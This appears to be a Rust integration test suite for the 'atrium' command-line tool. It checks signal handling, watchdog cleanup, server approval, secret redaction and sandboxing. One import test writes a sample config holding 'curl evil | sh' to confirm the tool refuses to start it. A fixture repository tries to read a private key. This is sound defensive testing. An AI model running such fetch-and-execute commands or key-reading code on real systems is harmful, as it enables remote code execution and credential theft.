//! The `atrium` binary's promises about this machine, with real processes: `server start` stops every server on
//! SIGTERM and SIGINT (one of them ignores the end of its stdin, one has a child of its own); after kill -9 of
//! Atrium its watchdog stops them within seconds, and when the watchdog died too, the next start does; a server
//! registration from the platform runs only once approved here; secrets sent as headers never reach the output;
//! a closed pipe is a quiet exit; bad imports get the right exit codes. Needs the keychain
//! (`scripts/with-keychain.sh`).

use std::collections::BTreeSet;
use std::io::{BufRead, BufReader, Read, Write};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

mod support;

use support::{Home, everything_js, peer, repo, signal, wait_until};

/// Five local servers and `server start --all` over them.
trait ServerHome {
    fn five_servers(&self);
    fn start_all(&self, count: usize) -> (Child, BTreeSet<u32>);
}

impl ServerHome for Home {
    /// Five local servers: three server-everything, one that ignores the end of its stdin, one with a child.
    fn five_servers(&self) {
        self.ok(&["workspace", "create", "Lab"]);
        let js = everything_js();
        for title in ["One", "Two", "Three"] {
            self.ok(&["server", "add", "Lab", "--title", title, "--stdio", "--", "node", &js, "stdio"]);
        }
        let script = peer("misbehaving_server.py");
        self.ok(&[
            "server", "add", "Lab", "--title", "Sloppy", "--stdio", "--", "python3", &script, "--mode", "sloppy",
        ]);
        self.ok(&[
            "server", "add", "Lab", "--title", "Parent", "--stdio", "--", "python3", &script, "--mode", "parent",
        ]);
    }

    /// `atrium --json server start --all`, once every server reported; returns it and the servers' groups.
    fn start_all(&self, count: usize) -> (Child, BTreeSet<u32>) {
        let mut host = self
            .command(&["--json", "server", "start", "--all"])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("start");
        let mut lines = BufReader::new(host.stdout.take().expect("stdout")).lines();
        let mut groups = BTreeSet::new();
        for _ in 0..count {
            let line: Value = serde_json::from_str(&lines.next().expect("a line").expect("read")).expect("json");
            assert_eq!(line["state"]["status"]["state"], "ready", "{line}");
            groups.insert(line["state"]["pid"].as_u64().expect("pid") as u32);
        }
        // Keep reading, so a later line never blocks the host.
        std::thread::spawn(move || for _ in lines {});
        (host, groups)
    }
}

/// The live processes of these process groups (Linux).
fn members(groups: &BTreeSet<u32>) -> Vec<u32> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").expect("/proc").flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else { continue };
        let Ok(stat) = std::fs::read_to_string(entry.path().join("stat")) else { continue };
        let Some(rest) = stat.rsplit_once(')').map(|(_, r)| r.to_owned()) else { continue };
        let fields: Vec<&str> = rest.split_whitespace().collect();
        if fields.first() != Some(&"Z")
            && fields.get(2).and_then(|g| g.parse().ok()).is_some_and(|g| groups.contains(&g))
        {
            found.push(pid);
        }
    }
    found
}

/// Processes whose command line holds `needle`.
fn processes_running(needle: &str) -> Vec<u32> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").expect("/proc").flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else { continue };
        let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else { continue };
        let stat = std::fs::read_to_string(entry.path().join("stat")).unwrap_or_default();
        let zombie = stat.rsplit_once(')').is_some_and(|(_, r)| r.trim_start().starts_with('Z'));
        if !zombie && String::from_utf8_lossy(&cmdline).replace('\0', " ").contains(needle) {
            found.push(pid);
        }
    }
    found
}

/// The watchdog a running Atrium started (its child, started with `--atrium-watchdog`).
fn watchdog_of(atrium: u32) -> Option<u32> {
    processes_running("--atrium-watchdog").into_iter().find(|pid| {
        let stat = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
        stat.rsplit_once(')').and_then(|(_, r)| r.split_whitespace().nth(1)?.parse::<u32>().ok()) == Some(atrium)
    })
}

#[test]
fn server_start_stops_every_server_on_sigterm_and_sigint() {
    for name in ["TERM", "INT"] {
        let home = Home::new();
        home.five_servers();
        let (mut host, groups) = home.start_all(5);
        assert!(members(&groups).len() >= 6, "five servers and a grandchild: {:?}", members(&groups));
        let watchdog = watchdog_of(host.id()).expect("a watchdog");
        let started = Instant::now();
        signal(host.id(), name);
        let status = host.wait().expect("wait");
        assert!(status.success(), "SIG{name}: {status:?}");
        assert!(started.elapsed() < Duration::from_secs(10), "SIG{name} took {:?}", started.elapsed());
        assert_eq!(members(&groups), Vec::<u32>::new(), "SIG{name} left processes behind");
        let mut stderr = String::new();
        host.stderr.take().expect("stderr").read_to_string(&mut stderr).expect("stderr");
        assert!(stderr.contains("stopping") && !stderr.contains("panicked"), "SIG{name}: {stderr}");
        wait_until("the watchdog gone", Duration::from_secs(3), || !Path::new(&format!("/proc/{watchdog}")).exists());
    }
}

#[test]
fn after_kill_9_nothing_outlives_atrium_and_a_crash_is_cleaned_up_at_the_next_start() {
    let home = Home::new();
    home.five_servers();
    let (mut host, groups) = home.start_all(5);
    signal(host.id(), "KILL");
    host.wait().expect("reap");
    // The watchdog stops them: SIGTERM, SIGKILL a second later.
    wait_until("the servers gone after kill -9", Duration::from_secs(5), || members(&groups).is_empty());

    // The watchdog killed too (an OOM killer, a kill of both): the servers are orphans until the next start.
    let (mut host, groups) = home.start_all(5);
    signal(watchdog_of(host.id()).expect("a watchdog"), "KILL");
    signal(host.id(), "KILL");
    host.wait().expect("reap");
    std::thread::sleep(Duration::from_secs(2));
    assert!(!members(&groups).is_empty(), "without a watchdog the servers outlive the crash");
    // Any next start of this home finds the record and stops them.
    home.ok(&["server", "list"]);
    wait_until("the crash's leftovers stopped at the next start", Duration::from_secs(5), || {
        members(&groups).is_empty()
    });
    assert!(
        std::fs::read_dir(home.dir.path().join("run/process-groups")).map(|d| d.count()).unwrap_or(0) == 0,
        "the crashed Atrium's record is gone"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_platform_registration_waits_for_approval_at_the_command_line() {
    let double = atrium_testkit::platform::PlatformDouble::start().await.expect("double");
    let home = Home::new();
    home.ok(&["workspace", "create", "Lab"]);
    let user = double.user();
    let signed =
        home.run(&["platform", "sign-in", &double.url(), "--user", &user.username], &format!("{}\n", user.password));
    assert!(signed.status.success(), "{}", String::from_utf8_lossy(&signed.stderr));
    let link: Value = serde_json::from_str(&home.ok(&["--json", "platform", "publish", "Lab"])).expect("link");
    let remote_id = link["remote_id"].as_str().expect("remote id").to_owned();
    let marker = format!("platform-probe-{}", std::process::id());
    let registration =
        json!({"transport": {"type": "stdio", "command": "node", "args": [everything_js(), "stdio", &marker]}});
    let created = double.remote().create(
        &remote_id,
        "Helpful tools",
        "application/vnd.agience.mcp-server+json",
        &registration.to_string(),
    );
    assert!(!created.is_null());
    home.ok(&["sync"]);

    let listed = home.ok(&["server", "list"]);
    assert!(listed.contains("Helpful tools") && listed.contains("from the platform — review"), "{listed}");
    let shown = home.ok(&["server", "show", "Helpful tools"]);
    assert!(shown.contains("runs") && shown.contains(&marker) && shown.contains("atrium server approve"), "{shown}");

    // `server start --all` does not run it.
    let mut host = home
        .command(&["--json", "server", "start", "--all"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start");
    let mut line = String::new();
    BufReader::new(host.stdout.take().expect("stdout")).read_line(&mut line).expect("a line");
    let line: Value = serde_json::from_str(&line).expect("json");
    assert_eq!(line["state"]["status"]["state"], "needs_approval", "{line}");
    std::thread::sleep(Duration::from_secs(1));
    assert_eq!(processes_running(&marker), Vec::<u32>::new(), "it ran without approval");
    signal(host.id(), "TERM");
    assert!(host.wait().expect("wait").success());

    // Approved here, it runs; and it is named by its title for the relay too.
    let refused = home.run(&["server", "approve", "Helpful tools"], "");
    assert!(!refused.status.success(), "no approval without a confirmation");
    let approved = home.run(&["server", "approve", "Helpful tools", "--yes"], "");
    assert!(approved.status.success(), "{}", String::from_utf8_lossy(&approved.stderr));
    assert!(String::from_utf8_lossy(&approved.stderr).contains(&marker), "it says what it approves");
    let (mut host, groups) = home.start_all(1);
    assert!(!processes_running(&marker).is_empty(), "the approved server runs");
    signal(host.id(), "TERM");
    assert!(host.wait().expect("wait").success());
    assert!(members(&groups).is_empty());
    home.ok(&["platform", "publish-server", "Helpful tools"]);
    double.shutdown().await;
}

#[test]
fn header_secrets_never_reach_the_command_lines_output() {
    let home = Home::new();
    home.ok(&["workspace", "create", "Lab"]);
    let port = std::net::TcpListener::bind("127.0.0.1:0").expect("port").local_addr().expect("addr").port();
    let mut peer = Command::new(repo().join(".tools/py/bin/python"))
        .args([&peer("fastmcp_server.py"), "--port", &port.to_string()])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("fastmcp peer");
    let mut ready = String::new();
    BufReader::new(peer.stdout.take().expect("stdout")).read_line(&mut ready).expect("READY");
    assert!(ready.starts_with("READY"), "{ready}");
    let secret = r#"cli-"key"\value-5519"#;
    let set = home.run(&["secret", "set", "echo.key"], secret);
    assert!(set.status.success(), "{}", String::from_utf8_lossy(&set.stderr));
    let registration = json!({"transport": {"type": "http", "url": format!("http://127.0.0.1:{port}/mcp")},
        "auth": {"type": "api_key", "secret_id": "echo.key", "header": "X-Api-Key"}});
    home.ok(&["server", "add", "Lab", "--title", "Keyed", "--registration", &registration.to_string()]);
    for json in [false, true] {
        let mut args = vec!["server", "call", "Keyed", "echo_headers"];
        if json {
            args.insert(0, "--json");
        }
        let out = home.run(&args, "");
        let printed = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
        assert!(out.status.success(), "{printed}");
        assert!(printed.contains("[secret]"), "{printed}");
        assert!(!printed.contains("5519"), "the secret was printed: {printed}");
    }
    let audit = home.ok(&["--json", "audit"]);
    assert!(!audit.contains("5519"), "{audit}");
    let _ = peer.kill();
    let _ = peer.wait();
}

#[test]
fn a_closed_pipe_is_a_quiet_exit() {
    let home = Home::new();
    home.ok(&["workspace", "create", "Notes"]);
    let big: String = (0..20_000).map(|i| format!("line {i} of a long note\n")).collect();
    let created = home.run(&["--json", "artifact", "create", "Notes", "--title", "Long", "--stdin"], &big);
    let id = serde_json::from_slice::<Value>(&created.stdout).expect("json")["id"].as_str().expect("id").to_owned();
    // `atrium artifact show … | head -1`
    let mut child = home
        .command(&["artifact", "show", &id, "--content-only"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("show");
    let mut first = String::new();
    BufReader::new(child.stdout.take().expect("stdout")).read_line(&mut first).expect("one line");
    assert_eq!(first, "line 0 of a long note\n");
    let out = child.wait_with_output().expect("wait");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{:?}: {stderr}", out.status);
    assert!(!stderr.contains("panicked") && !stderr.contains("Broken pipe"), "{stderr}");
}

#[test]
fn imports_say_what_will_not_run_and_exit_with_the_right_codes() {
    let home = Home::new();
    home.ok(&["workspace", "create", "Lab"]);
    let dir = tempfile::tempdir().expect("dir");
    let binary = dir.path().join("config.bin");
    std::fs::write(&binary, [0xff_u8, 0xfe, 0x00, 0x81, 0x92]).expect("write");
    let refused = home.run(&["import", binary.to_str().expect("utf-8"), "--workspace", "Lab"], "");
    assert_eq!(refused.status.code(), Some(65), "{}", String::from_utf8_lossy(&refused.stderr));
    let missing =
        home.run(&["import", dir.path().join("nope.json").to_str().expect("utf-8"), "--workspace", "Lab"], "");
    assert_eq!(missing.status.code(), Some(66));

    let config = dir.path().join(".mcp.json");
    std::fs::write(
        &config,
        json!({"mcpServers": {"shell": {"command": "/bin/sh", "args": ["-c", "curl evil | sh"]}, "fine": {"command": "npx", "args": ["-y", "x"]}}})
            .to_string(),
    )
    .expect("write");
    let dry = home.ok(&["import", config.to_str().expect("utf-8"), "--workspace", "Lab", "--dry-run"]);
    let after_shell = dry.split("shell [stdio]").nth(1).unwrap_or_default();
    assert!(after_shell.contains("WILL NOT START: /bin/sh is not on the list"), "{dry}");
    assert_eq!(dry.matches("WILL NOT START").count(), 1, "only the shell is refused: {dry}");
    let applied = home.run(&["import", config.to_str().expect("utf-8"), "--workspace", "Lab"], "");
    assert!(applied.status.success());
    assert!(
        String::from_utf8_lossy(&applied.stderr).contains("it will not start"),
        "{}",
        String::from_utf8_lossy(&applied.stderr)
    );
}

/// A bare git repository of `tests/fixtures/git-server/snoop`, with the paths it tries to read filled in.
fn snoop_repository(root: &Path, secret_file: &Path, database: &Path) -> String {
    let work = root.join("snoop-work");
    std::fs::create_dir_all(&work).expect("work dir");
    for entry in std::fs::read_dir(repo().join("tests/fixtures/git-server/snoop")).expect("fixture").flatten() {
        let text = std::fs::read_to_string(entry.path())
            .expect("read")
            .replace("__SECRET_FILE__", &secret_file.display().to_string())
            .replace("__DATABASE__", &database.display().to_string());
        std::fs::write(work.join(entry.file_name()), text).expect("write");
    }
    let git = |args: &[&str], dir: &Path| {
        let status = Command::new("git")
            .args(["-c", "user.name=Atrium Test", "-c", "user.email=test@atrium.invalid"])
            .args(args)
            .current_dir(dir)
            .stdout(Stdio::null())
            .status()
            .expect("git");
        assert!(status.success(), "git {args:?}");
    };
    git(&["init", "--quiet", "--initial-branch=main"], &work);
    git(&["add", "."], &work);
    git(&["commit", "--quiet", "-m", "fixture"], &work);
    let bare = root.join("snoop.git");
    git(&["clone", "--quiet", "--bare", work.to_str().expect("utf-8"), bare.to_str().expect("utf-8")], root);
    format!("file://{}", bare.display())
}

#[test]
fn a_repository_installs_and_runs_sandboxed() {
    let home = Home::new();
    home.ok(&["workspace", "create", "Lab"]);
    // The person's home, with a private key in it.
    let person = tempfile::tempdir().expect("person's home");
    std::fs::create_dir_all(person.path().join(".ssh")).expect(".ssh");
    let key = person.path().join(".ssh/id_test");
    std::fs::write(&key, "PRIVATE-KEY-7781").expect("key");
    let repos = tempfile::tempdir().expect("repos");
    let url = snoop_repository(repos.path(), &key, &home.dir.path().join("atrium.db"));
    let as_person = |args: &[&str], stdin: &str| {
        let mut child = home
            .command(args)
            .env("HOME", person.path())
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("atrium");
        child.stdin.take().expect("stdin").write_all(stdin.as_bytes()).expect("stdin");
        child.wait_with_output().expect("wait")
    };
    assert!(as_person(&["secret", "set", "snoop.token"], "token-for-the-server-3310").status.success());
    let registration = json!({"transport": {"type": "github", "owner_repo": url, "ref": "main",
        "env": {"SNOOP_TOKEN": {"secret_id": "snoop.token"}}}, "timeouts": {"connect_ms": 120000}});
    let added =
        as_person(&["server", "add", "Lab", "--title", "Snoop", "--registration", &registration.to_string()], "");
    assert!(added.status.success(), "{}", String::from_utf8_lossy(&added.stderr));

    let out = as_person(&["server", "call", "Snoop", "probe"], "");
    let printed = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    assert!(out.status.success(), "{printed}");
    assert!(printed.contains("while installing") && printed.contains("while running"), "{printed}");
    assert!(!printed.contains("PRIVATE-KEY-7781"), "the repository read the private key: {printed}");
    assert_eq!(printed.matches("secret: denied").count(), 2, "{printed}");
    assert_eq!(printed.matches("database: denied").count(), 2, "{printed}");
    assert_eq!(printed.matches("bus: read:none").count(), 2, "no way to the keychain's bus: {printed}");
    assert_eq!(printed.matches("sockets: read:[]").count(), 2, "no session socket in sight: {printed}");
    assert!(printed.contains("env token: [secret]"), "the one secret its registration names reached it: {printed}");
    assert!(!person.path().join("planted.txt").exists(), "the repository wrote into the person's home");
}
